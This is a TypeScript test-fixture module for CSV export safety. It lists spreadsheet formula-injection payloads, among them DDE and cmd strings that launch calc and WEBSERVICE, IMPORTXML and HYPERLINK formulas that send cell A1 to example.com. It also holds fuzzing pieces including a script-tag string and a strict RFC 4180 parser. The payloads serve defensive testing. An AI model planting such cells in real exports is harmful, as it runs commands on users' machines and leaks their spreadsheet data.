/** Cells that CSV writers and spreadsheet programs stumble over. For tests. */

/** What makes one spreadsheet program or another calculate, fetch or run something, or show what is not there. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '=1+1+cmd|"/C calc"!A0',
  "=cmd|'/C calc'!A1",
  "+cmd|'/C calc'!A1",
  "-cmd|'/C calc'!A1",
  "@SUM(1+1)*cmd|'/C calc'!A1",
  '=HYPERLINK("http://example.com/?x="&A1,"Open")',
  '=WEBSERVICE("http://example.com/"&A1)',
  '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
  '=IMPORTDATA("http://example.com/")',
  '=IMPORTRANGE("x","A1")',
  '=IMAGE("http://example.com/x.png")',
  '=DDE("cmd";"/C calc";"x")',
  '=MSEXCEL|"..\\..\\Windows\\System32\\cmd.exe"!""',
  '=rundll32|"URL.dll,OpenURL calc.exe"!A',
  '=FILTERXML("<a/>","//a")',
  '=INDIRECT("A1")',
  '=A1',
  '==1',
  '=+1',
  '=-1',
  '=@SUM(A1)',
  '+1+1',
  '+A1',
  '+(1)',
  '+0123456789',
  '+1234567890123456',
  '+1 555 123 4567',
  '+15551234567=1',
  '+15551234567\n=1+1',
  '-1+1',
  '-A1',
  '--1',
  '-2+3',
  '-',
  '- a list item',
  '@A1',
  '@SUM(A1:A9)',
  '@reviewer',
  '\t=1+1',
  '\tharmless',
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  '\nharmless',
  '\0=1+1',
  '\0',
  '=\u200B1+1',
  '-1,5',
  '-1e5',
  '-.5',
  '-0x10',
  '-5\n=1+1',
  '-１',
  '+',
  '@',
  '\t',
  '\r',
  '\n',
  '=\u0000',
  '=',
]

/** What begins with a sign and is no formula, and what only looks like one from afar: they stay as they are. */
export const HARMLESS: readonly string[] = [
  '-5',
  '-12.5',
  '+14155550123',
  '+919876543210',
  'a=b',
  '(-5)',
  "'quoted",
  '',
  ' a',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
]

/** Pieces of which random cells are put together. */
export const HOSTILE_PIECES: readonly string[] = [
  ...FORMULA_PAYLOADS,
  ...HARMLESS,
  '"',
  '""',
  "'",
  ',',
  ';',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\n\r',
  '\0',
  '\u2028',
  '\uFEFF',
  ' ',
  '  ',
  '\\',
  '\\"',
  'a',
  'é',
  'नमस्ते',
  '你好',
  '\u202Eabc',
  '😀👨‍👩‍👧',
  'null',
  '1e5',
  '0012',
  '+14155550123',
  '<script>alert(1)</script>',
]

/**
 * Reads CSV exactly as RFC 4180 has it, and nothing else: CRLF ends every record, quotes stand around a whole field or
 * nowhere, all records have as many fields as the first. Raises what is wrong and where.
 */
export function readRfc4180(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let at = 0
  const wrong = (what: string): Error =>
    new Error(`${what} at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`)
  while (at < text.length) {
    let field = ''
    if (text[at] === '"') {
      at += 1
      for (;;) {
        const quote = text.indexOf('"', at)
        if (quote < 0) throw wrong('A field that does not end')
        field += text.slice(at, quote)
        at = quote + 1
        if (text[at] !== '"') break
        field += '"'
        at += 1
      }
    } else {
      const [plain = ''] = /^[^",\r\n]*/.exec(text.slice(at, at + 1_000_000)) ?? []
      field = plain
      at += plain.length
    }
    record.push(field)
    if (text[at] === ',') at += 1
    else if (text.startsWith('\r\n', at)) {
      at += 2
      if (records[0] && record.length !== records[0].length) throw wrong(`${record.length} fields`)
      records.push(record)
      record = []
    } else throw wrong('No comma and no line end')
    if (at === text.length && record.length > 0) throw wrong('A record without an end')
  }
  return records
}
